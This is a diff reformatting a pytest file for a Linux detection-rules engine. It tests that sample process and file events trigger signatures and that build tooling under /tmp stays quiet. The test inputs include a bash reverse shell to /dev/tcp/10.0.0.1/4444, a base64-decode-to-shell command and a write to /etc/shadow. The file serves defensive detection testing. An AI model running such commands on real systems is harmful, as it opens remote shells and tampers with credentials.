@@ -18,13 +18,26 @@ def engine() -> rules.Engine:
     return rules.Engine(rules.load([PACK]))
 
 
-def proc(image: str, command_line: str, parent: str = "/usr/bin/bash",
-         user: str = "root") -> dict[str, Any]:
-    return {"Event": {"System": {"Channel": CHANNEL, "EventID": 1, "Computer": "build01",
-                                 "TimeCreated": {"SystemTime": "2026-12-05T10:00:00Z"}},
-                      "EventData": {"Image": image, "CommandLine": command_line,
-                                    "ParentImage": parent, "User": user,
-                                    "CurrentDirectory": "/root"}}}
+def proc(
+    image: str, command_line: str, parent: str = "/usr/bin/bash", user: str = "root"
+) -> dict[str, Any]:
+    return {
+        "Event": {
+            "System": {
+                "Channel": CHANNEL,
+                "EventID": 1,
+                "Computer": "build01",
+                "TimeCreated": {"SystemTime": "2026-12-05T10:00:00Z"},
+            },
+            "EventData": {
+                "Image": image,
+                "CommandLine": command_line,
+                "ParentImage": parent,
+                "User": user,
+                "CurrentDirectory": "/root",
+            },
+        }
+    }
 
 
 def file_write(image: str, target: str) -> dict[str, Any]:
@@ -41,28 +54,34 @@ def sigs(engine: rules.Engine, event: dict[str, Any]) -> list[str]:
 
 def test_readme_examples_are_detected(engine: rules.Engine) -> None:
     assert sigs(engine, proc("/usr/bin/bash", "bash -c echo aGkK | base64 -d | sh")) == [
-        "LinuxBase64DecodeToShell"]
+        "LinuxBase64DecodeToShell"
+    ]
     assert sigs(engine, proc("/tmp/x", "/tmp/x")) == ["LinuxExecFromTempDir"]
     assert sigs(engine, proc("/dev/shm/.x", "/dev/shm/.x", parent="/usr/bin/python3")) == [
-        "LinuxExecFromTempDir"]
+        "LinuxExecFromTempDir"
+    ]
     assert sigs(engine, proc("/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")) == [
-        "LinuxReverseShell"]
+        "LinuxReverseShell"
+    ]
     assert sigs(engine, file_write("/usr/bin/python3", "/etc/shadow")) == [
-        "LinuxCredentialFileWrite"]
+        "LinuxCredentialFileWrite"
+    ]
 
 
-@pytest.mark.parametrize(("image", "parent"), [
-    ("/tmp/pip-build-env-k2j3/overlay/bin/cmake", "/usr/bin/python3"),
-    ("/tmp/pytest-of-root/pytest-7/test_x0/helper", "/usr/bin/python3"),
-    ("/tmp/go-build123456/b001/exe/main", "/usr/lib/go/bin/go"),
-    ("/tmp/tmpa1b2c3d4/configure-probe", "/usr/bin/python3"),
-    ("/tmp/_MEIa1B2c3/heron-agent", "/usr/bin/heron-agent"),
-    ("/tmp/build-xyz/conftest", "/usr/bin/make"),
-    ("/tmp/cc-tool/out/gen", "/usr/bin/ninja"),
-    ("/var/tmp/pkg/postinst-helper", "/usr/bin/dpkg"),
-])
-def test_build_and_package_tooling_is_quiet(engine: rules.Engine, image: str,
-                                            parent: str) -> None:
+@pytest.mark.parametrize(
+    ("image", "parent"),
+    [
+        ("/tmp/pip-build-env-k2j3/overlay/bin/cmake", "/usr/bin/python3"),
+        ("/tmp/pytest-of-root/pytest-7/test_x0/helper", "/usr/bin/python3"),
+        ("/tmp/go-build123456/b001/exe/main", "/usr/lib/go/bin/go"),
+        ("/tmp/tmpa1b2c3d4/configure-probe", "/usr/bin/python3"),
+        ("/tmp/_MEIa1B2c3/heron-agent", "/usr/bin/heron-agent"),
+        ("/tmp/build-xyz/conftest", "/usr/bin/make"),
+        ("/tmp/cc-tool/out/gen", "/usr/bin/ninja"),
+        ("/var/tmp/pkg/postinst-helper", "/usr/bin/dpkg"),
+    ],
+)
+def test_build_and_package_tooling_is_quiet(engine: rules.Engine, image: str, parent: str) -> None:
     assert sigs(engine, proc(image, image, parent=parent)) == []
 
 
